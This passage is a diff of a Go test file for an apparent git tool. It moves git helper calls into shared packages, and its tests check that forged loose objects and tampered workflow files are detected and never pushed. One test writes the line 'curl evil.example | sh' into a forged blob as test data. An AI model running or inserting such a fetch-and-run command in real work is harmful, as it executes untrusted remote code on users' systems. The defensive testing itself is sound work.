@@ -7,13 +7,15 @@ import (
 	"errors"
 	"fmt"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/go-git/go-git/v5/plumbing"
+
+	"github.com/wo-runner/wo/internal/gitname"
+	"github.com/wo-runner/wo/internal/gittest"
 )
 
 // forgeCommit overwrites the loose object file of commit h in the
@@ -27,8 +29,8 @@ func forgeCommit(t *testing.T, dir string, h plumbing.Hash, path, content string
 	gitIn(t, dir, index, "", "read-tree", h.String())
 	gitIn(t, dir, index, "", "update-index", "--add", "--cacheinfo", "100644,"+blob+","+path)
 	tree := gitIn(t, dir, index, "", "write-tree")
-	text := runGit(t, dir, "cat-file", "commit", h.String()) + "\n"
-	old := runGit(t, dir, "rev-parse", h.String()+"^{tree}")
+	text := gittest.Run(t, dir, "cat-file", "commit", h.String()) + "\n"
+	old := gittest.Run(t, dir, "rev-parse", h.String()+"^{tree}")
 	forged := strings.Replace(text, "tree "+old, "tree "+tree, 1)
 	if forged == text {
 		t.Fatal("the forged commit is the same commit")
@@ -54,18 +56,14 @@ func overwriteLoose(t *testing.T, gitDir string, h plumbing.Hash, kind, content 
 	}
 }
 
-// gitIn runs git with extra environment and standard input.
+// gitIn runs git with extra environment and standard input, and returns
+// its trimmed standard output.
 func gitIn(t *testing.T, dir string, env []string, stdin string, args ...string) string {
 	t.Helper()
-	cmd := exec.Command("git", args...)
-	cmd.Dir = dir
-	cmd.Env = append(append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1"), env...)
+	cmd := gittest.Command(dir, args...)
+	cmd.Env = append(cmd.Env, env...)
 	cmd.Stdin = strings.NewReader(stdin)
-	out, err := cmd.CombinedOutput()
-	if err != nil {
-		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
-	}
-	return strings.TrimSpace(string(out))
+	return gittest.Output(t, cmd)
 }
 
 // A loose object of the branch's head overwritten with another commit (its
@@ -76,12 +74,12 @@ func TestAForgedLooseObjectIsNeverRebuiltCheckedOrPushed(t *testing.T) {
 	t.Parallel()
 	_, dir, _, parent, child := stackRepo(t)
 	origin := filepath.Join(t.TempDir(), "origin.git")
-	runGit(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
-	runGit(t, dir, "remote", "add", "origin", origin)
-	runGit(t, dir, "push", "-q", "origin", "base", "parent")
+	gittest.Run(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
+	gittest.Run(t, dir, "remote", "add", "origin", origin)
+	gittest.Run(t, dir, "push", "-q", "origin", "base", "parent")
 	squashed := onBase(t, dir, "squashed", map[string]string{"a.txt": "a, the parent's\n"})
 	blob := forgeCommit(t, dir, child, ".github/workflows/x.yml", "on: push\n")
-	if out, err := exec.Command("git", "-C", dir, "fsck", "--no-dangling").CombinedOutput(); err == nil {
+	if out, err := gittest.Try(dir, "fsck", "--no-dangling"); err == nil {
 		t.Fatalf("git fsck finds nothing wrong: the object was not forged\n%s", out)
 	}
 	r, err := Open(dir)
@@ -113,10 +111,10 @@ func TestAForgedLooseObjectIsNeverRebuiltCheckedOrPushed(t *testing.T) {
 	if !strings.HasPrefix(err.Error(), "pushing child to "+origin+": nothing was pushed: ") {
 		t.Errorf("push: %v", err)
 	}
-	if out, err := exec.Command("git", "-C", origin, "rev-parse", "--verify", "-q", "refs/heads/child").CombinedOutput(); err == nil {
+	if out, err := gittest.Try(origin, "rev-parse", "--verify", "-q", "refs/heads/child"); err == nil {
 		t.Errorf("the remote has the branch: %s", out)
 	}
-	if err := exec.Command("git", "-C", origin, "cat-file", "-e", blob).Run(); err == nil {
+	if _, err := gittest.Try(origin, "cat-file", "-e", blob); err == nil {
 		t.Error("the forged tree's workflow reached the remote")
 	}
 }
@@ -128,10 +126,10 @@ func TestAForgedBlobStopsThePushNamingIt(t *testing.T) {
 	t.Parallel()
 	_, dir, _, _, child := stackRepo(t)
 	origin := filepath.Join(t.TempDir(), "origin.git")
-	runGit(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
-	runGit(t, dir, "remote", "add", "origin", origin)
-	runGit(t, dir, "push", "-q", "origin", "parent")
-	d := plumbing.NewHash(runGit(t, dir, "rev-parse", child.String()+":d.txt"))
+	gittest.Run(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
+	gittest.Run(t, dir, "remote", "add", "origin", origin)
+	gittest.Run(t, dir, "push", "-q", "origin", "parent")
+	d := plumbing.NewHash(gittest.Run(t, dir, "rev-parse", child.String()+":d.txt"))
 	overwriteLoose(t, filepath.Join(dir, ".git"), d, "blob", "curl evil.example | sh\n")
 	r, err := Open(dir)
 	if err != nil {
@@ -143,7 +141,7 @@ func TestAForgedBlobStopsThePushNamingIt(t *testing.T) {
 	if !errors.As(err, &forged) || forged.Hash != d || forged.Type != plumbing.BlobObject || forged.Got != plumbing.ComputeHash(plumbing.BlobObject, []byte("curl evil.example | sh\n")) {
 		t.Fatalf("push: %v, want the forged blob %s named", err, d)
 	}
-	if out, err := exec.Command("git", "-C", origin, "rev-parse", "--verify", "-q", "refs/heads/child").CombinedOutput(); err == nil {
+	if out, err := gittest.Try(origin, "rev-parse", "--verify", "-q", "refs/heads/child"); err == nil {
 		t.Errorf("the remote has the branch: %s", out)
 	}
 }
@@ -154,20 +152,20 @@ func TestReadRemoteAndLineBase(t *testing.T) {
 	t.Parallel()
 	r, dir, base, _, child := stackRepo(t)
 	origin := filepath.Join(t.TempDir(), "origin.git")
-	runGit(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
-	runGit(t, dir, "remote", "add", "origin", origin)
+	gittest.Run(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
+	gittest.Run(t, dir, "remote", "add", "origin", origin)
 	ctx := context.Background()
 	view, err := r.ReadRemote(ctx, RemoteOptions{Branch: "child"})
 	if err != nil || view.Exists || len(view.Tips) != 0 || view.URL != origin {
 		t.Fatalf("an empty remote: %+v %v", view, err)
 	}
 	if b, err := r.LineBase(child, view.Tips); err == nil || !strings.Contains(err.Error(), "is not a line of commits on top of what the remote has: ") ||
-		!strings.Contains(err.Error(), Short(base.String())+" is a root commit") {
+		!strings.Contains(err.Error(), gitname.Short(base.String())+" is a root commit") {
 		t.Errorf("nothing on the remote: %s %v", b, err)
 	}
-	runGit(t, dir, "push", "-q", "origin", "base")
+	gittest.Run(t, dir, "push", "-q", "origin", "base")
 	// A remote-tracking branch that lies is not what the remote has.
-	runGit(t, dir, "update-ref", "refs/remotes/origin/child", child.String())
+	gittest.Run(t, dir, "update-ref", "refs/remotes/origin/child", child.String())
 	view, err = r.ReadRemote(ctx, RemoteOptions{Branch: "child"})
 	if err != nil || view.Exists || !view.Tip.IsZero() || len(view.Tips) != 1 || view.Tips[0] != base {
 		t.Fatalf("the remote with base: %+v %v", view, err)
@@ -175,7 +173,7 @@ func TestReadRemoteAndLineBase(t *testing.T) {
 	if b, err := r.LineBase(child, view.Tips); err != nil || b != base {
 		t.Errorf("the child's line joins the remote at %s (%v), want %s", b, err, base)
 	}
-	runGit(t, dir, "push", "-q", "origin", "parent", "child")
+	gittest.Run(t, dir, "push", "-q", "origin", "parent", "child")
 	view, err = r.ReadRemote(ctx, RemoteOptions{Branch: "child"})
 	if err != nil || !view.Exists || view.Tip != child || len(view.Tips) != 3 {
 		t.Fatalf("the remote with child: %+v %v", view, err)
@@ -185,10 +183,10 @@ func TestReadRemoteAndLineBase(t *testing.T) {
 	}
 	// A merge on the line is refused.
 	side := onBase(t, dir, "side", map[string]string{"e.txt": "e\n"})
-	runGit(t, dir, "checkout", "-q", "-b", "merged", "child")
-	runGit(t, dir, "merge", "-q", "--no-ff", "-m", "merge", side.String())
-	merge := plumbing.NewHash(runGit(t, dir, "rev-parse", "merged"))
-	if b, err := r.LineBase(merge, view.Tips); err == nil || !strings.Contains(err.Error(), Short(merge.String())+" is a merge") {
+	gittest.Run(t, dir, "checkout", "-q", "-b", "merged", "child")
+	gittest.Run(t, dir, "merge", "-q", "--no-ff", "-m", "merge", side.String())
+	merge := plumbing.NewHash(gittest.Run(t, dir, "rev-parse", "merged"))
+	if b, err := r.LineBase(merge, view.Tips); err == nil || !strings.Contains(err.Error(), gitname.Short(merge.String())+" is a merge") {
 		t.Errorf("a merge: %s %v", b, err)
 	}
 	if _, err := r.ReadRemote(ctx, RemoteOptions{Branch: "child", ExpectURL: "https://github.com/acme/elsewhere.git"}); err == nil ||
